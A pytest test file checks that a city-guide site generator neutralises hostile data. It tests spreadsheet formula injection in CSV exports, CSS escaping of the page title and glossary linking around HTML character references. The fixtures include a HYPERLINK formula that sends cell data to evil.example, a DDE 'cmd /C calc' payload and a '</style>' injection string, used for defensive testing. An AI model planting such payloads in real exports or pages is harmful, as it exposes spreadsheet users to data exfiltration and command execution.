"""Outputs that other programs read stay what the data says: CSV cells a spreadsheet does not run
as formulas, CSS strings escaped for CSS, glossary links never inside a character reference.
One build of the fictional city with hostile text in its data, read as a spreadsheet, a browser
and a PDF reader would read it."""

from __future__ import annotations

import csv
import io
import os
import re
import shutil
from html import unescape
from html.parser import HTMLParser
from pathlib import Path

import pytest
import yaml

from conftest import TINY, mkdocs_build
from tsunagu.outputs import booklet, export
from tsunagu import load_guide
from tsunagu.site import published
from tsunagu.site.glossary import link_terms
from tsunagu.data.model import GlossaryTerm

pytestmark = pytest.mark.slow

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"詳細")'
COMMAND = "+cmd|' /C calc'!A0"
NAMES = {"kita-madoguchi": FORMULA, "minami-madoguchi": "@SUM(1+1)*cmd|' /C calc'!A0", "hiroba-center": "-2+3+ひろば"}
NOTES = {"kita-madoguchi": COMMAND, "minami-madoguchi": "-1+1", "hiroba-center": "\t=1+1"}
# Shown on an agency page; the glossary below has terms that are the letters and digits of the
# references this text is written with, and terms holding the characters those references stand for
SHOWN = "A&B と <x> と \"34\" と x_y と [注] と 'q'"
TITLE = "架空町's ガイド \"</style><b>太字</b>\\"
TERMS = [("amp", "amp"), ("lt", "lt"), ("gt", "gt"), ("n34", "34"), ("n39", "39"), ("quot", "quot"),
         ("a-and-b", "A&B"), ("x-y", "x_y"), ("chu", "[注]"), ("q", "'q'")]


def _write(path: Path, data: dict) -> None:
    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> tuple[Path, Path]:
    """(data, site): the fictional city with formula-like names and notes, an apostrophe and
    </style> in its title, a note written with character references, and a glossary of the
    references' own letters; built once."""
    root = tmp_path_factory.mktemp("outputs-safe")
    data = root / "data"
    shutil.copytree(TINY, data)
    agencies = yaml.safe_load((data / "agencies.yml").read_text(encoding="utf-8"))
    for a in agencies["agencies"]:
        if a["id"] in NAMES:
            a["name"], a["note"] = NAMES[a["id"]], NOTES[a["id"]]
    agencies["agencies"][0]["note"] = COMMAND + " " + SHOWN
    _write(data / "agencies.yml", agencies)
    site = yaml.safe_load((data / "site.yml").read_text(encoding="utf-8"))
    site["site"]["title"] = TITLE
    _write(data / "site.yml", site)
    _write(data / "glossary.yml", {"terms": [{"id": i, "term": t, "plain": f"{t} の説明です。"} for i, t in TERMS]})
    out = root / "site"
    result = mkdocs_build(data, out)
    assert result.returncode == 0, result.stdout + result.stderr
    return data, out


# ----------------------------------------------------------------------------
# directory.csv: no cell starts like a formula; phone numbers and hours as the data has them
# ----------------------------------------------------------------------------


def _csv(site: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO((site / published.CSV_FILE).read_bytes().decode("utf-8-sig"), newline="")))


def _rows_by_id(site: Path) -> dict[str, dict[str, str]]:
    """The CSV's rows by agency id, each as column name -> cell."""
    header, *rows = _csv(site)
    return {r[header.index("ID")]: dict(zip(header, r)) for r in rows}


def test_csv_cells_that_start_like_a_formula_are_text(hostile):
    data, site = hostile
    by_id = _rows_by_id(site)
    for a in load_guide(data).agencies:
        row = by_id[a.id]
        assert row["名称"] == "'" + a.name, a.id
        assert row["備考"] == "'" + a.note, a.id
    for row in _csv(site):
        for cell in row:
            assert not cell.startswith(export.FORMULA_START), cell


def test_phone_numbers_and_hours_keep_their_meaning(hostile):
    data, site = hostile
    by_id = _rows_by_id(site)
    for a in load_guide(data).agencies:
        row = by_id[a.id]
        assert row["電話番号"] == a.phones[0].display
        assert re.fullmatch(r"[0-9][0-9-]*", row["電話番号"]), row["電話番号"]
        assert row["連絡先備考（その他、SNSなど）"] == (export.phone_cell(a.phones) if len(a.phones) > 1 else "")
        assert row["利用可能日時特記事項"] == (str(a.hours) if a.hours else "")
    assert by_id["minami-madoguchi"]["利用可能日時特記事項"].startswith("平日 9時")


@pytest.mark.parametrize("value, cell", [
    ("=1+1", "'=1+1"), ("+81", "'+81"), ("-1", "'-1"), ("@x", "'@x"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("＝1+1", "'＝1+1"), ("0467-61-3436", "0467-61-3436"), ("110", "110"), ("a=b", "a=b"), ("", ""),
])
def test_one_function_writes_every_cell(value, cell):
    assert export.csv_cell(value) == cell


def test_the_open_data_page_says_how_such_cells_are_written(hostile):
    _, site = hostile
    text = unescape(re.sub(r"<[^>]+>", "", (site / "opendata" / "index.html").read_text(encoding="utf-8")))
    assert "「'」" in text and "数式" in text


# ----------------------------------------------------------------------------
# CSS strings: the running head shows the title exactly; nothing ends the style element
# ----------------------------------------------------------------------------

_CSS_ESCAPE = re.compile(r"\\([0-9a-fA-F]{1,6}) ?|\\(.)", re.DOTALL)


def _css_text(string: str) -> str:
    """A CSS string's value, as the browser reads its escapes."""
    return _CSS_ESCAPE.sub(lambda m: chr(int(m.group(1), 16)) if m.group(1) else m.group(2), string)


def test_the_running_head_shows_the_title_exactly(hostile):
    data, site = hostile
    page = (site / booklet.PAGE_FILE).read_text(encoding="utf-8")
    style = re.search(r"<style>(.*?)</style>", page, re.DOTALL).group(1)
    assert "nav.toc" in style  # the whole style sheet is inside the element: the title did not end it
    head = re.search(r'@top-center \{ content: "((?:[^"\\]|\\.)*)"', style).group(1)
    assert _css_text(head) == booklet.running_head(load_guide(data))
    assert TITLE in _css_text(head) and "&#" not in head and "&amp;" not in head


@pytest.mark.parametrize("text", ["a'b", 'a"b', "a\\b", "a\nb", "</style>", "a&b", "全角　空白", "\u2028", "x\u00ad"])
def test_css_string_escapes_for_css(text):
    escaped = str(booklet.css_string(text))
    assert _css_text(escaped) == text
    assert not re.search(r"""['"<>&\n]""", escaped) and escaped.isprintable()


def test_the_pdf_running_head_has_the_apostrophe(hostile):
    _, site = hostile
    pdf = site / booklet.BOOKLET_PDF
    if not pdf.exists():
        if os.environ.get("CI") == "true":
            pytest.fail(f"the booklet PDF must be built in CI: {pdf} is missing")
        pytest.skip("no booklet PDF (the build found no Chromium)")
    from pypdf import PdfReader
    text = "".join(p.extract_text() for p in PdfReader(str(pdf)).pages[1:3])
    assert "架空町's" in text and "&#39;" not in text


# ----------------------------------------------------------------------------
# Glossary links: never inside a character reference; terms match the text as the reader sees it
# ----------------------------------------------------------------------------


class _Read(HTMLParser):
    """The article's text as the browser shows it, and the text of each term link."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.text, self.terms, self.in_article, self.in_term = [], [], 0, 0

    def handle_starttag(self, tag, attrs):
        self.in_article += tag == "article"
        if tag == "a" and "ts-term" in (dict(attrs).get("class") or ""):
            self.in_term = 1
            self.terms.append("")

    def handle_endtag(self, tag):
        self.in_article -= tag == "article"
        if tag == "a":
            self.in_term = 0

    def handle_data(self, data):
        if self.in_article:
            self.text.append(data)
            if self.in_term:
                self.terms[-1] += data


def _read(path: Path) -> _Read:
    reader = _Read()
    reader.feed(path.read_text(encoding="utf-8"))
    return reader


def test_no_term_is_linked_inside_a_character_reference(hostile):
    _, site = hostile
    page = _read(site / "agencies" / "kita-madoguchi" / "index.html")
    assert SHOWN in "".join(page.text)
    # each term linked where the reader sees it, and only there
    assert sorted(page.terms) == sorted(["A&B", "34", "x_y", "[注]", "'q'"])
    for html in site.rglob("*.html"):
        text = html.read_text(encoding="utf-8")
        assert not re.search(r"&#?[xX]?[0-9A-Za-z]*<a class=\"ts-term\"", text), html


@pytest.mark.parametrize("written", [
    "&amp; &lt;b&gt; &#34;&#x22;&#X22; &#39;&#x27; &quot;&apos; &#91;&#123;&#95;&#10; &nbsp;&copy",
    "A&amp;B&#x22;34&#34;lt&lt;",
])
def test_the_letters_and_digits_of_references_are_never_linked(written):
    terms = tuple(GlossaryTerm(id=f"t{i}", term=t, plain="説明") for i, t in enumerate(
        ["amp", "lt", "gt", "34", "x22", "X22", "39", "x27", "quot", "apos", "91", "123", "95", "10", "nbsp", "copy",
         "22", "#3", "&#"]))
    out = link_terms(f"<p>{written}</p>", terms, "x/")
    for link in re.finditer(r'<a class="ts-term" href="[^"]*">([^<]*)</a>', out):
        before = out[:link.start()]
        assert not re.search(r"&#?[xX]?[0-9A-Za-z]*$", before), out
    assert unescape(re.sub(r"<[^>]+>", "", out)) == unescape(written)


@pytest.mark.parametrize("term, written", [
    ("A&B", "A&amp;B"), ("A&B", "A&#38;B"), ("A&B", "A&#x26;B"), ("x_y", "x&#95;y"), ("[注]", "&#91;注&#93;"),
    ("'q'", "&#39;q&#39;"), ('"q"', "&quot;q&#34;"), ("<b>", "&lt;b&gt;"),
])
def test_a_term_with_such_characters_links_however_the_page_writes_them(term, written):
    terms = (GlossaryTerm(id="t", term=term, plain="説明"),)
    out = link_terms(f"<p>前 {written} 後</p>", terms, "x/")
    assert out == f'<p>前 <a class="ts-term" href="../glossary/#t">{written}</a> 後</p>'
